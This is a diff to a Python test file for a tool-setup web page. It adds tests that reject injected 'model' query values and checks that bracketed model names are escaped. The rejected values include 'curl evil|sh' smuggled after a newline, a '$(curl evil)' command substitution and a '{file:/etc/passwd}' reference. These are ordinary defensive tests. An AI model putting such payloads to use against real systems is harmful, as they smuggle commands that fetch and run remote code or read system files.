@@ -1,6 +1,7 @@
 """Setting a tool up, as somebody new does it."""
 
 import re
+from urllib.parse import urlencode
 
 import aiohttp
 import pytest
@@ -56,3 +57,16 @@ async def test_a_file_that_knows_no_variables_gets_the_token(browse: Browsing):
 
 async def test_an_unknown_tool_is_told(browse: Browsing):
     assert (await look(browse("mia"), "/connect/no-such-tool")).status == 404
+
+
+@pytest.mark.parametrize("model", ["x\ncurl evil|sh", "$(curl evil)", "{file:/etc/passwd}", "x" * 201, "!!", "a b"])
+async def test_a_link_puts_nothing_but_a_model_into_what_is_pasted(browse: Browsing, model):
+    page = await look(browse("mia"), f"/connect/claude-code?{urlencode({'model': model})}")
+    assert page.status == 400
+    assert 'role="alert" id="odd"' in page.text
+    assert "ANTHROPIC_MODEL" not in page.text
+
+
+async def test_a_model_may_have_brackets(browse: Browsing):
+    page = await look(browse("mia"), "/connect/claude-code?model=us.anthropic.claude-opus-4-6%5B1m%5D")
+    assert "us.anthropic.claude-opus-4-6[1m]&#34;" in page.text
